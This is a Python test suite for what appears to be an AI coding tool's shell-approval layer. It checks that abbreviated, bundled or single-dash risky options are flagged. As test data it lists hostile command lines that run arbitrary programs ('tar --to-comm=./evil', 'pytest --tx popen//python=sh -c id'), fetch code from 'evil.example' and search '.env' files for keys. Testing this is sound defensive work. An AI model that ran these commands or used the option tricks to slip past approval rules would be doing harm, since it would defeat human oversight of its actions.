"""A risky option is found however it is shortened, bundled or placed; each program has one row."""

from __future__ import annotations

from importlib.resources import files

import pytest
from hypothesis import given
from hypothesis import strategies as st

from mindstone_tui.core.tools.approvals import decide
from mindstone_tui.core.tools.base import Preview
from mindstone_tui.core.tools.programs import has_risky_option, known_programs
from mindstone_tui.core.tools.shell import SHELL
from mindstone_tui.core.tools.shell_rules import Rule

RISKY = {name: row.risky for name, row in known_programs().items()}
LONG = [(name, option) for name, risky in RISKY.items() for option in risky.long]
LETTERS = [(name, letter) for name, risky in RISKY.items() for letter in risky.letters]
SINGLE = [(name, option) for name, risky in RISKY.items() for option in risky.single]
OTHERS = st.lists(st.sampled_from(["-v", "--", "a", "src/b.py", "--stat"]), max_size=3)


@given(st.sampled_from(LONG), st.data(), OTHERS, OTHERS)
def test_every_beginning_of_a_risky_name_counts(
    risky: tuple[str, str], data: st.DataObject, before: list[str], after: list[str]
) -> None:
    program, option = risky
    name = option[: data.draw(st.integers(1, len(option)))]
    value = data.draw(st.sampled_from(["", "=x", "=./evil"]))
    assert has_risky_option((program, *before, f"--{name}{value}", *after))


@given(st.sampled_from(LETTERS), st.text("abHnqsuvx", max_size=4), st.text("abHn", max_size=3))
def test_every_bundle_with_a_risky_letter_counts(
    risky: tuple[str, str], before: str, after: str
) -> None:
    program, letter = risky
    assert has_risky_option((program, f"-{before}{letter}{after}"))


@given(st.sampled_from(SINGLE), st.sampled_from(["-", "--"]), st.sampled_from(["", "=./evil"]))
def test_names_after_one_dash_count_with_one_and_with_two(
    risky: tuple[str, str], dashes: str, value: str
) -> None:
    program, option = risky
    assert has_risky_option((program, f"{dashes}{option}{value}"))


@pytest.mark.parametrize(
    ("rule", "command"),
    [
        ("git grep *", "git grep --open-files-in=./evil x"),
        ("git ls-remote *", "git ls-remote --uploa=./evil x"),
        ("git grep *", "git grep -O./evil x"),
        ("sort *", "sort --compress-prog=./evil x"),
        ("sort *", "sort -uo out x"),
        ("tar *", "tar --to-comm=./evil -xf a"),
        ("tar *", "tar xIf ./evil a"),
        ("fd *", "fd -Hx rm"),
        ("curl *", "curl -so out x"),
        ("go test *", "go test -exec ./evil"),
        ("go test *", "go test --exec=./evil"),
        ("rg *", "rg --pr ./evil x"),
        ("find *", "find . -execdir id +"),
        ("pytest *", "pytest -qp evil"),
        ("pytest *", "pytest -d --tx 'popen//python=sh -c id'"),
        ("pytest *", "pytest --an-option-of-a-plug-in=a.txt"),
        ("mypy *", "mypy --timing-stats a.txt x.py"),
        ("mypy *", "mypy --line-checking-s=a.txt x.py"),
        ("npm test *", "npm test -- --import=data:text/javascript,evil"),
        ("npm test *", "npm test -script-shell=perl"),
        ("cargo clippy *", "cargo clippy -- --emit=link --codegen linker=./evil"),
        ("cargo clippy *", "cargo clippy -- @evil"),
        ("git log *", "git log --remerge-d"),
        ("git show *", "git show --diff-merges=r"),
        ("git for-each-ref *", "git for-each-ref '--format=%(signature:grade)'"),
        ("git for-each-ref *", "git for-each-ref --sort signature"),
        ("go list *", "go list -m evil.example/secret@latest"),
        ("go build *", "go build -mod=mod evil.example/secret"),
        ("go test *", "go test -test.cpuprofile=main.go"),
        ("git grep *", "git grep --untracked --no-exclude-standard KEY :/"),
        ("git grep *", "git grep KEY -- ':(top).env'"),
        ("date *", "date 010100002030"),
        ("cksum *", "cksum -c list"),
        ("grep *", "grep -rS x ."),
    ],
)
def test_a_rule_with_a_star_does_not_reach_them(rule: str, command: str) -> None:
    rules = (Rule.parse("allow", f"shell {rule}"),)
    preview = Preview(title="run", command=command)
    assert decide(SHELL, preview, mode="ask", rules=rules, sandboxed=False).verdict == "ask"


@pytest.mark.parametrize(
    "command",
    [
        *("git diff --stat", "git log --oneline -n 5", "sort -u a", "rg -n x src", "date +%F"),
        *("pytest -q -x tests", "pytest --maxfail=1 --cov=x -n 4", "mypy --strict x.py"),
    ],
)
def test_ordinary_options_are_not_risky(command: str) -> None:
    assert not has_risky_option(tuple(command.split()))


def test_each_program_stands_once_in_the_table_and_where_it_is_looked_for() -> None:
    text = files("mindstone_tui.core.tools").joinpath("programs.json").read_text("utf-8")
    names = [line.split('"')[1] for line in text.splitlines() if line.startswith('  "')]
    assert names == sorted(set(names))
    assert set(names) == set(known_programs())
